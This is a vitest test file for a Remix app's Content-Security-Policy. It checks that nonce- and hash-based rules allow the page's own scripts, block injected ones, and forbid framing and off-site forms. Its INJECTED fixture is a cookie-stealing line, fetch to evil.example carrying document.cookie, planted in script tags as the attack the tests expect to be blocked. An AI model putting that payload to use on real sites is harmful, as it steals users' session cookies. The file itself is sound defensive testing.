/** Tests that the Content-Security-Policy allows the scripts of a page, by nonce or by hash, and no injected script. */
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { DEFERRED_TYPE, deferScripts, trustByHash } from '#web/remix/deferred-scripts.server';
import { deferredScriptLoader } from '#web/remix/deferred-script-loader';
import { contentSecurityPolicy, sha256 } from '#web/security/policy.server';
import { COLOUR_MODE } from './colour-mode';

const NONCE = 'q83vASNFZ4mrze8BI0VniQ==';
const MODULE = 'import * as route0 from "/assets/root.js";import("/assets/entry.js");';
const DATA = 'window.__remixContext.streamController.enqueue("data");';
const LOADER = { startsWhenIdle: true, registersWorker: true };
const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';

/** A page as Remix renders it, with two injected scripts. */
const page = [
  `<html><head><script nonce="${NONCE}">${COLOUR_MODE}</script>`,
  '<script type="application/ld+json">{"@type":"NGO"}</script></head><body>',
  `<script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script>`,
  '<link rel="modulepreload" href="/assets/root.js"/><link rel="modulepreload" href="/assets/home.js"/>',
  `<script nonce="${NONCE}">window.__remixContext = {};</script>`,
  `<script nonce="${NONCE}" type="module" async="">${MODULE}</script></body></html>`,
  `<!--$--><script nonce="${NONCE}">${DATA}</script><!--$--><!--/$--><!--/$-->`,
].join('');

const deferred = deferScripts(page, LOADER);

/** Returns true for each inline script that a browser would run under `script-src` of this policy. */
function inlineScripts(html: string, policy: string) {
  const [, sources = ''] = /script-src ([^;]*)/.exec(policy) ?? [];
  expect(sources).not.toMatch(/unsafe|\*/);
  return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter(([, attributes = '']) => !attributes.includes('ld+json'))
    .map(([, attributes = '', text = '']) => {
      const nonce = /nonce="([^"]*)"/.exec(attributes)?.[1];
      const hash = createHash('sha256').update(text).digest('base64');
      const allowed =
        (nonce !== undefined && sources.includes(`'nonce-${nonce}'`)) ||
        sources.includes(`'sha256-${hash}'`);
      return { text, allowed };
    });
}

describe.each([
  ['nonce', { html: deferred, trust: { kind: 'nonce', nonce: NONCE } as const }],
  ['hash', trustByHash(deferred, NONCE)],
])('a policy with scripts allowed by %s', (_, { html, trust }) => {
  const policy = contentSecurityPolicy(trust, sha256('body{}'));

  test('allows every script of the page, and no injected script', () => {
    const scripts = inlineScripts(html, policy);
    expect(scripts).toHaveLength(7);
    for (const { text, allowed } of scripts) expect(allowed, text).toBe(text !== INJECTED);
  });

  test('allows the deferred module script, whose text the loader copies, and the loader', () => {
    const texts = inlineScripts(html, policy).map(({ text }) => text);
    expect(texts).toContain(MODULE);
    expect(texts.at(-1)).toBe(deferredScriptLoader(LOADER));
  });
});

test('a page with scripts allowed by hash does not contain the nonce', () => {
  const { html } = trustByHash(page, NONCE);
  expect(html).not.toContain(NONCE);
  expect(html).toContain('nonce="guessed"');
});

test('deferScripts turns the module script into an inert script that lists its preloads', () => {
  expect(deferred).not.toContain('type="module"');
  expect(deferred).not.toContain('<link');
  expect(deferred).not.toContain('async');
  expect(deferred).toContain(
    `<script nonce="${NONCE}" ${DEFERRED_TYPE} data-preload="/assets/root.js /assets/home.js">${MODULE}</script>`,
  );
});

test('deferScripts moves streamed scripts into the body and keeps the order of the scripts', () => {
  expect(deferred).toMatch(/<\/script><\/body><\/html>$/);
  expect(deferred).not.toContain('<!--');
  const texts = (html: string) =>
    [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, text]) => text);
  expect(texts(deferred)).toEqual([...texts(page), deferredScriptLoader(LOADER)]);
});

test('deferScripts removes only the streamed markers after </html> from a page without scripts', () => {
  const light = '<html><body><p>light</p></body></html>';
  expect(deferScripts(`${light}<!--$--><!--/$-->`, LOADER)).toBe(light);
});

test('the inline scripts contain no text that would end the script element', () => {
  for (const script of [COLOUR_MODE, deferredScriptLoader(LOADER)])
    expect(script).not.toMatch(/<\/|<!--/);
});

test('the policy forbids framing, content of other sites, and forms to other sites', () => {
  const policy = contentSecurityPolicy({ kind: 'nonce', nonce: NONCE }, sha256('x'));
  for (const directive of [
    `default-src 'none'`,
    `base-uri 'none'`,
    `frame-ancestors 'none'`,
    `form-action 'self'`,
    `img-src 'self' data:`,
  ])
    expect(policy).toContain(directive);
  expect(policy).not.toContain('unsafe');
});
